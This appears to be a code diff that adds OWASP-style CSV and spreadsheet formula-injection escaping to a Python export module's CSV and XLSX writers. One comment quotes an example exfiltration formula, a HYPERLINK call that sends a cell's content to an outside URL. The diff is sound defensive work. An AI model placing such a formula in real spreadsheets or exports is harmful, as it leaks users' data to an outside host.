@@ -8,7 +8,7 @@ import csv
 import io
 from collections.abc import Sequence
 from pathlib import Path
-from typing import TYPE_CHECKING, Literal
+from typing import TYPE_CHECKING, Any, Literal
 
 from kb.errors import ExportError
 from kb.safenames import safe_name
@@ -24,6 +24,12 @@ _SUFFIXES: dict[str, Format] = {
     ".pdf": "pdf",
     ".png": "png",
 }
+
+# Spreadsheet formula injection (OWASP "CSV Injection"): a cell whose text starts with one of these is read
+# as a formula by Excel, WPS and LibreOffice (`=HYPERLINK("http://…?d="&A1,"a")` sends the sheet away).
+# Numbers the exports compute (序号, 页码, the matrix's counts) are numbers, not text, and are left alone;
+# text is escaped as OWASP says, a signed number written as text (`-5`) included, no further.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 PDF_FONT = "STSong-Light"  # reportlab's built-in CJK CID font: no font file, and the text extracts again
 
@@ -53,12 +59,29 @@ def write_file(path: str | Path, data: bytes) -> Path:
     return target
 
 
+def starts_formula(text: str) -> bool:
+    """Whether a spreadsheet may take this text for a formula (OWASP's list of first characters)."""
+    return text.startswith(FORMULA_START)
+
+
+def csv_cell(cell: Cell) -> str | int:
+    """A cell as a CSV holds it: text that would start a formula gets a leading `'` (OWASP's escape: the
+    spreadsheet shows the text, quote included, and computes nothing); numbers stay numbers."""
+    if cell is None:
+        return ""
+    if isinstance(cell, str) and starts_formula(cell):
+        return "'" + cell
+    return cell
+
+
 def csv_bytes(headers: Sequence[str], rows: Sequence[Sequence[Cell]]) -> bytes:
-    """CSV in UTF-8 with a byte-order mark, because Excel on a Chinese Windows reads BOM-less CSV as GBK."""
+    """CSV in UTF-8 with a byte-order mark, because Excel on a Chinese Windows reads BOM-less CSV as GBK.
+    Every cell, headers included (they hold document titles), is formula-safe (`csv_cell`); the csv module
+    quotes a cell holding a comma, a quote or a line break, so no text from a document starts a new cell."""
     out = io.StringIO(newline="")
     writer = csv.writer(out)
-    writer.writerow(headers)
-    writer.writerows([["" if cell is None else cell for cell in row] for row in rows])
+    writer.writerow([csv_cell(h) for h in headers])
+    writer.writerows([[csv_cell(cell) for cell in row] for row in rows])
     return out.getvalue().encode("utf-8-sig")
 
 
@@ -106,6 +129,9 @@ def add_sheet(
     sheet.append(list(headers))
     for row in rows:
         sheet.append(["" if cell is None else cell for cell in row])
+    for row_cells in sheet.iter_rows():
+        for cell in row_cells:
+            _as_text(cell)
     for cell in sheet[header_row]:
         cell.font = Font(bold=True)
         cell.fill = PatternFill("solid", fgColor="DDE4EE")
@@ -121,6 +147,15 @@ def add_sheet(
         sheet.auto_filter.ref = f"A{header_row}:{get_column_letter(len(headers))}{header_row + len(rows)}"
     _print_setup(sheet)
     return sheet
+
+
+def _as_text(cell: Any) -> None:
+    """Keep text as text: openpyxl stores a string starting with `=` as a live formula, and a cell starting
+    with + - @ becomes one as soon as someone edits it. Such a cell is stored as a string with Excel's quote
+    prefix (what typing `'` before it does): shown exactly as the document wrote it, never computed."""
+    if isinstance(cell.value, str) and starts_formula(cell.value):
+        cell.data_type = "s"
+        cell.quotePrefix = True
 
 
 def _print_setup(sheet: Worksheet) -> None:
